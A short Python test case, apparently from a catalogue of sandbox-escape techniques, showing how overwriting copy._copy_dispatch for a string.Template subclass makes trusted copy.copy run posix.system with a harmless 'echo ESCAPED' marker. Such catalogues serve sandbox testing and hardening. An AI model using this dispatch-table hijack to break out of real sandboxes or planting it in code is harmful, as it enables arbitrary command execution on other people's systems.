# escape: 016
# technique: overwrite a helper name in a trusted module's globals: trusted code then calls guest code / gated function with guest data
# family: callback
# goal: exec
# first-seen: tav safelite; SSPJ Srdnlen 2025
import random, posix, textwrap
import string
class T(string.Template): pass
import copy
copy._copy_dispatch[type(T('x'))] = lambda x: posix.system('echo ESCAPED:dispatch table')
copy.copy(T('x'))
